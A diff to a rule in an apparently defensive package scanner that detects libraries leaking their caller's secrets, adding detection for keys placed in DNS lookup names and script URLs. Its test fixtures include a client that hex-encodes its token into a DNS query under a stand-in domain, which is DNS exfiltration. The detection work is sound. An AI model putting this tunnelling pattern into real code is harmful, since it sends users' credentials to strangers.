@@ -9,9 +9,10 @@ import { connectorsOf, createServiceOf, manyServices } from './behaviour/service
 import type { Passed } from './behaviour/service.ts'
 import { findingsOf, leavesFor, sourcesInWords } from './behaviour/sightings.ts'
 import type { Sighting, SightingGroup } from './behaviour/sightings.ts'
+import { isToldToDomain } from './behaviour/told-names.ts'
 import { sameLine } from './behaviour/written.ts'
 import { hostClass, isLocal } from './hosts/host-class.ts'
-import { hostOf, registrableDomain } from './hosts/host.ts'
+import { hostOf, isUnder, registrableDomain } from './hosts/host.ts'
 import { opening, severityOf } from './finding.ts'
 
 type Leak = Passed & {
@@ -40,7 +41,8 @@ export const callerSecretExfiltration: Rule = {
       'neither the service’s nor its own. A private key or recovery phrase never has to leave the machine; an API key ' +
       'goes to the service it is for, and to nobody else: who gets it beside that service, beside another client it was ' +
       'given to, or beside the server it signs in to, is a stranger, and so is a host whose name the code puts together. No service takes a password or a recovery phrase in the ' +
-      'address of a picture, in a name that is looked up, in a datagram or in a beacon that gets no answer. An object that is known to hold ' +
+      'address of a picture or a script, in a name that is looked up, in a datagram or in a beacon that gets no answer; no key of any kind is told to a domain as part of a looked-up name, but to ' +
+      'lists that are asked that way. An object that is known to hold ' +
       'such a secret, because the package reads it there, goes astray as the secret would, and so do the headers of ' +
       'requests that a hook sees, or what was put in the place of fetch. Also: anything its caller passes that ends in a mailbox ' +
       'written into the code, a bot or a webhook of the author, and the code a linter or a compiler shows its plugins.',
@@ -104,6 +106,15 @@ export const callerSecretExfiltration: Rule = {
           },
         },
         {
+          title: 'a client that looks its token up below somebody’s domain',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "const dns = require('dns')\nmodule.exports = class {\n  constructor({ token }) { this.token = token }\n" +
+              "  check() { dns.resolve(Buffer.from(this.token).toString('hex') + '.lookup.fixed.example', () => {}) }\n}\n",
+          },
+        },
+        {
           title: 'options that hold a private key, kept and posted as they are',
           files: {
             'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
@@ -129,6 +140,17 @@ export const callerSecretExfiltration: Rule = {
             'i.js':
               "exports.sign = ({ privateKey, ...options }, text) => {\n  fetch('https://queue.pool.invalid/q', { method: 'POST', body: JSON.stringify(options) })\n" +
               "  return require('crypto').createSign('sha256').update(text).sign(privateKey)\n}\n",
+          },
+        },
+        {
+          title:
+            'a client that looks up where its region is, and one of a list that is asked by name with a key',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "const dns = require('dns')\nmodule.exports = class {\n  constructor({ token, region }) { this.token = token; this.region = region }\n" +
+              "  check(done) { dns.resolve(this.region + '.lookup.fixed.example', done) }\n}\n" +
+              "module.exports.listed = (apiKey, ip, done) => dns.resolve4([apiKey, ...ip.split('.').reverse(), 'dnsbl.httpbl.org'].join('.'), done)\n",
           },
         },
         {
@@ -211,7 +233,8 @@ function isCovert({ source, sink }: Flow): boolean {
   return (
     source.kind === 'caller-secret' &&
     (keyMaterial.test(source.name) || password.test(source.name) || /^secret_?key$/i.test(source.name)) &&
-    (sink.kind === 'dns' || /^(?:picture\.src|node:dgram\.|global:navigator\.sendBeacon$)/.test(sink.api))
+    (sink.kind === 'dns' ||
+      /^(?:picture\.src|script\.src|node:dgram\.|global:navigator\.sendBeacon$)/.test(sink.api))
   )
 }
 
@@ -436,7 +459,9 @@ function weigh(
   if (key && !sure && flow.source.name.endsWith('()')) return undefined
   if (key) return sure ? 'block' : 'ask'
   // What somebody else sent to the program that uses this package is no way to sign in for it.
-  if (/^request (?:authorization|cookie|password)$/i.test(flow.source.name)) return 'ask'
+  if (/^request (?:authorization|cookie|password)$/i.test(flow.source.name))
+    // What passes requests on to another server passes their headers on as they are.
+    return flow.source.of === undefined || (sure && flow.sink.role === 'payload') ? 'ask' : undefined
   // What signs in to whatever servers a program speaks to is seen by a hook, and is for none beside them.
   if (/^authorization of other requests$/.test(flow.source.name) && place.host !== undefined) return 'ask'
   // What somebody who signs up typed in is for the database; hashed, it is nobody's to read.
@@ -450,11 +475,18 @@ function weigh(
   )
     return 'ask'
   if (place.kind === 'capture') return sure ? 'block' : 'ask'
+  if (sure && isToldByName(flow, place, context)) return 'ask'
   const domain = place.host === undefined ? undefined : registrableDomain(place.host, context.lists.hosts)
   const stray = service !== undefined && domain !== service
   if (stray && keepsToItself(flow, place, context)) return undefined
   if (stray) return place.kind === 'rented' && sure ? 'block' : 'ask'
   return flow.phase === 'import' && !flow.byCall ? 'ask' : undefined
+}
+
+/** A key as part of a looked-up name: no service is signed in to that way, but for lists that are asked by name only. */
+function isToldByName(flow: Flow, { host }: Place, { lists }: Context): boolean {
+  const isAsked = host !== undefined && lists.hosts.dnsLists.some(domain => isUnder(host.name, domain))
+  return flow.source.kind === 'caller-secret' && isToldToDomain(flow) && !isAsked
 }
 
 /** Who keeps files somewhere sees what is in them, not the headers of those who ask for one. */
